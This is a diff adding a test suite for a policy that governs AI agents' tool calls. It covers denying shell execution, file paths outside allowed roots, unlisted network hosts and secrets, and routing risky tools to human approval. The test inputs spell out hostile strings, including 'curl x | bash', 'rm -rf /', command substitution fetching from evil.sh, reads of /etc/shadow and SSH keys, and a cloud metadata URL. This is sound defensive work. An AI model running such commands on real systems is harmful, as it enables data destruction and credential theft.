@@ -1,0 +1,501 @@
+package acgs.tool_call_test
+
+import data.acgs.main
+import data.acgs.tool_call
+
+hash := "cdd01ef066bc6cf2"
+
+# A harmless call: every rule passes.
+base := {
+	"type": "tool_call",
+	"constitutional_hash": hash,
+	"tool_call": {
+		"name": "notes__echo",
+		"tool": "echo",
+		"upstream": "notes",
+		"arguments": {"text": "hello"},
+		"agent": {"id": "agent-1", "session": "session-1"},
+		"context": {"calls_last_minute": 0},
+	},
+}
+
+# base with tool_call fields replaced (whole values, not merged).
+call(patch) := json.patch(base, [{"op": "add", "path": concat("/", ["", "tool_call", k]), "value": v} | some k, v in patch])
+
+# base with these arguments.
+args(a) := json.patch(base, [{"op": "replace", "path": "/tool_call/arguments", "value": a}])
+
+decide(i) := d if {
+	d := main.decision with input as i
+}
+
+has_reason(d, r) if r in d.reasons
+
+some_reason_starts(d, prefix) if {
+	some r in d.reasons
+	startswith(r, prefix)
+}
+
+# ---------------------------------------------------------------------------
+# Routing and the decision object
+# ---------------------------------------------------------------------------
+
+test_harmless_call_allowed if {
+	d := decide(base)
+	d.allow == true
+	d.outcome == "allow"
+	d.reasons == []
+	d.compliance_score == 1
+	d.policy == "tool_call"
+	d.constitutional_hash == hash
+	d.evaluation_details.tool == "notes__echo"
+	d.evaluation_details.upstream == "notes"
+	d.evaluation_details.agent == "agent-1"
+	d.evaluation_details.argument_violations == 0
+}
+
+test_main_allow_follows_decision if {
+	main.allow with input as base
+	not main.allow with input as call({"name": "shell__exec"})
+}
+
+test_tool_call_needs_the_hash if {
+	d := decide(object.union(base, {"constitutional_hash": "0000000000000000"}))
+	d.allow == false
+	d.reasons == ["Constitutional hash mismatch"]
+	not d.outcome
+}
+
+test_tool_call_type_is_case_sensitive if {
+	d := decide(object.union(base, {"type": "Tool_Call"}))
+	d.reasons == ["Unknown request type: Tool_Call"]
+}
+
+test_tool_call_is_a_known_type if {
+	main.known_type with input as base
+	main.is_tool_call with input as base
+	not main.is_tool_call with input as object.union(base, {"type": "data_access"})
+}
+
+test_missing_tool_call_object_denies if {
+	d := decide({"type": "tool_call", "constitutional_hash": hash})
+	d.allow == false
+	d.outcome == "deny"
+	has_reason(d, "Tool name missing")
+	has_reason(d, "Upstream missing")
+	has_reason(d, "Agent identity missing")
+	has_reason(d, "Session missing")
+}
+
+test_tool_call_not_an_object_denies if {
+	d := decide(object.union(base, {"tool_call": "notes__echo"}))
+	d.outcome == "deny"
+	has_reason(d, "Tool name missing")
+}
+
+test_reasons_are_sorted if {
+	d := decide(call({"name": "shell__exec", "agent": {}}))
+	d.reasons == sort(d.reasons)
+	count(d.reasons) >= 3
+}
+
+# ---------------------------------------------------------------------------
+# Prohibited tools, hidden tools, upstreams
+# ---------------------------------------------------------------------------
+
+test_prohibited_tool_denied if {
+	d := decide(call({"name": "shell__exec", "tool": "exec", "upstream": "shell"}))
+	d.allow == false
+	d.outcome == "deny"
+	d.compliance_score == 0
+	has_reason(d, "Tool 'shell__exec' is prohibited by the constitution")
+	d.evaluation_details.prohibited == true
+}
+
+test_prohibited_patterns_match_any_upstream if {
+	every n in ["a__execute_command", "b__bash", "ops__run_shell", "x__escalate_privileges"] {
+		decide(call({"name": n})).outcome == "deny"
+	}
+}
+
+test_prohibited_is_by_full_name_only if {
+	# "exec" as a prefix of another tool is not "exec"
+	decide(call({"name": "notes__executive_summary"})).outcome == "allow"
+}
+
+test_prohibited_wrong_type_name_denied if {
+	d := decide(call({"name": 42}))
+	has_reason(d, "Tool name missing")
+}
+
+test_hidden_prohibited if {
+	tool_call.hidden with input as call({"name": "shell__exec"})
+	not tool_call.hidden with input as base
+}
+
+test_hidden_ignores_arguments if {
+	# arguments that would deny do not hide a tool
+	not tool_call.hidden with input as args({"path": "/etc/passwd"})
+}
+
+test_blocked_upstream_denied_and_hidden if {
+	d := decide(base) with data.acgs.config.tool_call.blocked_upstreams as ["notes"]
+	has_reason(d, "Upstream 'notes' is blocked")
+	tool_call.hidden with input as base with data.acgs.config.tool_call.blocked_upstreams as ["notes"]
+}
+
+test_missing_upstream_denied if {
+	d := decide(call({"upstream": null}))
+	has_reason(d, "Upstream missing")
+}
+
+# ---------------------------------------------------------------------------
+# Agent identity and session
+# ---------------------------------------------------------------------------
+
+test_agent_identity_required if {
+	d := decide(call({"agent": {"session": "s"}}))
+	d.outcome == "deny"
+	d.reasons == ["Agent identity missing"]
+}
+
+test_agent_identity_wrong_type if {
+	d := decide(call({"agent": {"id": 7, "session": "s"}}))
+	has_reason(d, "Agent identity missing")
+}
+
+test_agent_identity_optional_when_configured if {
+	d := decide(call({"agent": {"session": "s"}})) with data.acgs.config.tool_call.require_agent_identity as false
+	d.outcome == "allow"
+}
+
+test_session_required if {
+	d := decide(call({"agent": {"id": "agent-1"}}))
+	d.reasons == ["Session missing"]
+}
+
+test_session_optional_when_configured if {
+	d := decide(call({"agent": {"id": "agent-1"}})) with data.acgs.config.tool_call.require_session as false
+	d.outcome == "allow"
+}
+
+test_agent_limited_to_its_upstreams if {
+	limits := {"agent-1": ["files"]}
+	d := decide(base) with data.acgs.config.tool_call.agent_upstreams as limits
+	d.reasons == ["Agent 'agent-1' may not use upstream 'notes'"]
+	tool_call.hidden with input as base with data.acgs.config.tool_call.agent_upstreams as limits
+	decide(call({"upstream": "files", "name": "files__echo"})).outcome == "allow" with data.acgs.config.tool_call.agent_upstreams as limits
+}
+
+test_unlisted_agent_may_use_every_upstream if {
+	d := decide(base) with data.acgs.config.tool_call.agent_upstreams as {"other": ["files"]}
+	d.outcome == "allow"
+}
+
+# ---------------------------------------------------------------------------
+# Rate limit
+# ---------------------------------------------------------------------------
+
+test_rate_limit_below if {
+	decide(call({"context": {"calls_last_minute": 119}})).outcome == "allow"
+}
+
+test_rate_limit_at_limit_denies if {
+	d := decide(call({"context": {"calls_last_minute": 120}}))
+	d.outcome == "deny"
+	d.reasons == ["Agent 'agent-1' made at least 120 tool calls in the last minute (limit 120)"]
+	d.evaluation_details.rate_limit == {"calls_last_minute": 120, "limit": 120}
+}
+
+test_rate_limit_per_agent if {
+	d := decide(call({"context": {"calls_last_minute": 500}})) with data.acgs.config.tool_call.rate_limit.per_agent as {"agent-1": 1000}
+	d.outcome == "allow"
+	d.evaluation_details.rate_limit.limit == 1000
+	e := decide(call({"context": {"calls_last_minute": 5}})) with data.acgs.config.tool_call.rate_limit.per_agent as {"agent-1": 5}
+	e.outcome == "deny"
+}
+
+test_rate_limit_wrong_type_counts_as_missing if {
+	decide(call({"context": {"calls_last_minute": "1000"}})).outcome == "allow"
+	decide(call({"context": null})).outcome == "allow"
+}
+
+test_rate_thresholds if {
+	tool_call.rate_thresholds == [120]
+	t := tool_call.rate_thresholds with data.acgs.config.tool_call.rate_limit.per_agent as {"a": 5, "b": 1000, "c": 120}
+	t == [5, 120, 1000]
+}
+
+# The gateway sends the count rounded down to a threshold; the answer must be
+# the same as for the exact count on both sides of every threshold.
+test_rounded_counts_decide_like_exact_ones if {
+	limits := {"agent-1": 50, "b": 200}
+	every pair in [[0, 0], [49, 0], [50, 50], [119, 50], [120, 120], [199, 120], [200, 200], [5000, 200]] {
+		exact := decide(call({"context": {"calls_last_minute": pair[0]}})) with data.acgs.config.tool_call.rate_limit.per_agent as limits
+		rounded := decide(call({"context": {"calls_last_minute": pair[1]}})) with data.acgs.config.tool_call.rate_limit.per_agent as limits
+		exact.outcome == rounded.outcome
+	}
+}
+
+# ---------------------------------------------------------------------------
+# Approval
+# ---------------------------------------------------------------------------
+
+test_approval_required if {
+	d := decide(call({"name": "db__delete_record", "tool": "delete_record", "upstream": "db"}))
+	d.allow == false
+	d.outcome == "approval_required"
+	d.compliance_score == 0.5
+	d.reasons == ["Tool 'db__delete_record' requires human approval"]
+	d.evaluation_details.needs_approval == true
+}
+
+test_deny_beats_approval if {
+	i := json.patch(call({"name": "db__delete_record"}), [{"op": "replace", "path": "/tool_call/arguments", "value": {"path": "/etc/shadow"}}])
+	d := decide(i)
+	d.outcome == "deny"
+	d.reasons == ["Argument '/path' is outside the allowed file roots ('/etc/shadow')"]
+}
+
+test_approval_patterns if {
+	every n in ["a__drop_table", "mail__send_email", "bank__transfer_funds", "ci__deploy_production"] {
+		decide(call({"name": n})).outcome == "approval_required"
+	}
+}
+
+# ---------------------------------------------------------------------------
+# Arguments: shape
+# ---------------------------------------------------------------------------
+
+test_missing_arguments_are_empty if {
+	i := json.patch(base, [{"op": "remove", "path": "/tool_call/arguments"}])
+	decide(i).outcome == "allow"
+}
+
+test_arguments_not_an_object_denied if {
+	d := decide(args(["/etc/passwd"]))
+	d.reasons == ["Arguments must be an object"]
+	e := decide(args(null))
+	e.reasons == ["Arguments must be an object"]
+}
+
+# ---------------------------------------------------------------------------
+# Arguments: file paths
+# ---------------------------------------------------------------------------
+
+test_path_under_root_allowed if {
+	decide(args({"path": "/workspace/notes/a.txt"})).outcome == "allow"
+	decide(args({"path": "/workspace"})).outcome == "allow"
+	decide(args({"path": "/tmp/acgs-workspace/x/y"})).outcome == "allow"
+}
+
+test_path_outside_roots_denied if {
+	d := decide(args({"path": "/etc/passwd"}))
+	d.outcome == "deny"
+	d.reasons == ["Argument '/path' is outside the allowed file roots ('/etc/passwd')"]
+	d.evaluation_details.argument_violations == 1
+}
+
+test_path_root_prefix_is_not_a_root if {
+	d := decide(args({"path": "/workspace-evil/a"}))
+	d.reasons == ["Argument '/path' is outside the allowed file roots ('/workspace-evil/a')"]
+}
+
+test_path_dotdot_denied if {
+	d := decide(args({"path": "/workspace/../etc/passwd"}))
+	d.reasons == ["Argument '/path' climbs out of its directory with '..' ('/workspace/../etc/passwd')"]
+	e := decide(args({"path": "/workspace/a\\..\\..\\etc"}))
+	some_reason_starts(e, "Argument '/path' climbs out")
+}
+
+test_relative_path_denied if {
+	d := decide(args({"file": "notes.txt"}))
+	d.reasons == ["Argument '/file' is a relative path ('notes.txt'); only absolute paths under the allowed file roots are accepted"]
+	some_reason_starts(decide(args({"file": "~/.ssh/id_rsa"})), "Argument '/file' is a relative path")
+}
+
+test_path_names_are_case_insensitive_and_nested if {
+	d := decide(args({"options": {"Destination": "/etc/cron.d/x"}}))
+	d.reasons == ["Argument '/options/Destination' is outside the allowed file roots ('/etc/cron.d/x')"]
+}
+
+test_path_arrays_checked if {
+	d := decide(args({"paths": ["/workspace/a", "/root/.bashrc"]}))
+	d.reasons == ["Argument '/paths/1' is outside the allowed file roots ('/root/.bashrc')"]
+}
+
+test_file_urls_are_paths if {
+	d := decide(args({"text": "file:///etc/passwd"}))
+	d.reasons == ["Argument '/text' is outside the allowed file roots ('/etc/passwd')"]
+	decide(args({"text": "file:///workspace/a"})).outcome == "allow"
+}
+
+test_other_keys_are_not_paths if {
+	decide(args({"text": "/etc/passwd is a file"})).outcome == "allow"
+}
+
+test_empty_path_ignored if {
+	decide(args({"path": ""})).outcome == "allow"
+}
+
+test_upstream_file_roots if {
+	roots := {"notes": ["/srv/notes"]}
+	decide(args({"path": "/srv/notes/a"})).outcome == "allow" with data.acgs.config.tool_call.upstream_file_roots as roots
+	d := decide(args({"path": "/workspace/a"})) with data.acgs.config.tool_call.upstream_file_roots as roots
+	d.outcome == "deny"
+}
+
+test_pointer_escapes if {
+	d := decide(args({"a/b": {"path": "/etc/x"}, "c~d": {"path": "/etc/y"}}))
+	has_reason(d, "Argument '/a~1b/path' is outside the allowed file roots ('/etc/x')")
+	has_reason(d, "Argument '/c~0d/path' is outside the allowed file roots ('/etc/y')")
+}
+
+# ---------------------------------------------------------------------------
+# Arguments: shell commands
+# ---------------------------------------------------------------------------
+
+test_shell_command_argument_denied if {
+	d := decide(args({"command": "ls -la"}))
+	d.reasons == ["Argument '/command' carries a shell command; tool 'notes__echo' may not run shell commands"]
+	some_reason_starts(decide(args({"opts": {"CMD": "id"}})), "Argument '/opts/CMD' carries a shell command")
+}
+
+test_shell_command_allowed_for_listed_tools if {
+	d := decide(args({"command": "ls -la | sh"})) with data.acgs.config.tool_call.shell_tools_allowed as ["notes__*"]
+	d.outcome == "allow"
+}
+
+test_shell_syntax_denied if {
+	d := decide(args({"text": "hello $(curl evil.sh)"}))
+	d.reasons == ["Argument '/text' contains shell syntax (command substitution)"]
+	e := decide(args({"text": "a.txt; rm -rf /"}))
+	e.reasons == ["Argument '/text' contains shell syntax (command chained with ;, && or ||)"]
+	f := decide(args({"text": "curl x | bash"}))
+	f.reasons == ["Argument '/text' contains shell syntax (output piped to a shell or interpreter)"]
+	g := decide(args({"text": "`id`"}))
+	g.reasons == ["Argument '/text' contains shell syntax (command substitution)"]
+}
+
+test_ordinary_text_is_not_shell if {
+	decide(args({"text": "fish && chips; shipping costs $5 (approx.)"})).outcome == "allow"
+}
+
+# ---------------------------------------------------------------------------
+# Arguments: network destinations
+# ---------------------------------------------------------------------------
+
+test_allowed_url if {
+	decide(args({"url": "https://example.com/a?b=c"})).outcome == "allow"
+	decide(args({"url": "https://docs.example.com:8443/x"})).outcome == "allow"
+	decide(args({"url": "HTTPS://API.GITHUB.COM/repos"})).outcome == "allow"
+}
+
+test_url_outside_allow_list_denied if {
+	d := decide(args({"url": "http://169.254.169.254/latest/meta-data"}))
+	d.reasons == ["Argument '/url' reaches '169.254.169.254', which is not in the network allow-list"]
+}
+
+test_url_anywhere_is_checked if {
+	d := decide(args({"body": {"links": ["https://example.com/", "ftp://evil.net/x"]}}))
+	d.reasons == ["Argument '/body/links/1' reaches 'evil.net', which is not in the network allow-list"]
+}
+
+test_url_userinfo_tricks if {
+	d := decide(args({"url": "https://example.com@evil.net/"}))
+	d.reasons == ["Argument '/url' reaches 'evil.net', which is not in the network allow-list"]
+	e := decide(args({"url": "http://evil.net\\@example.com/"}))
+	e.reasons == ["Argument '/url' reaches 'evil.net', which is not in the network allow-list"]
+}
+
+test_url_suffix_is_not_a_subdomain if {
+	d := decide(args({"url": "https://example.com.evil.net/"}))
+	d.outcome == "deny"
+	e := decide(args({"url": "https://notexample.com/"}))
+	e.outcome == "deny"
+}
+
+test_url_without_scheme_under_url_key if {
+	d := decide(args({"url": "evil.net/path"}))
+	d.reasons == ["Argument '/url' reaches 'evil.net', which is not in the network allow-list"]
+	decide(args({"url": "example.com/path"})).outcome == "allow"
+}
+
+test_url_without_host if {
+	d := decide(args({"url": "http:///x"}))
+	d.reasons == ["Argument '/url' reaches '<no host>', which is not in the network allow-list"]
+}
+
+test_host_arguments if {
+	d := decide(args({"host": "evil.net:22"}))
+	d.reasons == ["Argument '/host' reaches 'evil.net', which is not in the network allow-list"]
+	decide(args({"hostname": "api.github.com"})).outcome == "allow"
+	e := decide(args({"host": "[::1]:8080"}))
+	e.reasons == ["Argument '/host' reaches '::1', which is not in the network allow-list"]
+	decide(args({"host": "::1"})).outcome == "allow" with data.acgs.config.tool_call.allowed_hosts as ["::1"]
+}
+
+test_ipv6_url if {
+	d := decide(args({"url": "http://[fe80::1]:80/"}))
+	d.reasons == ["Argument '/url' reaches '[fe80::1]', which is not in the network allow-list"]
+	decide(args({"url": "http://[fe80::1]:80/"})).outcome == "allow" with data.acgs.config.tool_call.allowed_hosts as ["fe80::1"]
+}
+
+# ---------------------------------------------------------------------------
+# Arguments: secrets
+# ---------------------------------------------------------------------------
+
+test_secret_patterns_denied if {
+	every pair in [
+		["AKIAABCDEFGHIJKLMNOP", "AWS access key id"],
+		["-----BEGIN RSA PRIVATE KEY-----\nMIIE", "private key"],
+		["ghp_abcdefghijklmnopqrstuvwxyz0123456789", "GitHub token"],
+		["xoxb-1234567890-abcdef", "Slack token"],
+		["sk-abcdefghijklmnopqrstuvwxyz", "API key (sk-...)"],
+		["AIzaSyA-abcdefghijklmnopqrstuvwxyz01234", "Google API key"],
+		["eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.abcdefghijkl", "JSON web token"],
+		["postgres://admin:hunter2@db.internal/prod", "password in a connection string"],
+	] {
+		d := decide(args({"text": pair[0]}))
+		has_reason(d, sprintf("Argument '/text' looks like a secret (%s); secrets must not be passed to tools", [pair[1]]))
+	}
+}
+
+test_secret_never_in_reasons if {
+	d := decide(args({"note": "key AKIAABCDEFGHIJKLMNOP here"}))
+	every r in d.reasons {
+		not contains(r, "AKIAABCDEFGHIJKLMNOP")
+	}
+	d.outcome == "deny"
+}
+
+test_credential_argument_names if {
+	d := decide(args({"auth": {"Password": "hunter2"}}))
+	d.reasons == ["Argument '/auth/Password' carries a credential; tool 'notes__echo' may not receive credentials"]
+	decide(args({"password": ""})).outcome == "allow"
+}
+
+test_secrets_allowed_for_listed_tools if {
+	d := decide(args({"token": "ghp_abcdefghijklmnopqrstuvwxyz0123456789"})) with data.acgs.config.tool_call.secret_tools_allowed as ["notes__echo"]
+	d.outcome == "allow"
+}
+
+test_plain_text_is_not_a_secret if {
+	decide(args({"text": "the secret of good soup is patience"})).outcome == "allow"
+}
+
+# ---------------------------------------------------------------------------
+# Bounds
+# ---------------------------------------------------------------------------
+
+test_long_values_truncated_in_reasons if {
+	long := concat("", ["/etc/", concat("", [x | some _ in numbers.range(1, 300); x := "a"])])
+	d := decide(args({"path": long}))
+	count(d.reasons[0]) < 300
+}
+
+test_several_violations_all_reported if {
+	d := decide(args({"path": "/etc/passwd", "url": "http://evil.net", "token": "x"}))
+	count(d.reasons) == 3
+	d.evaluation_details.argument_violations == 3
+}
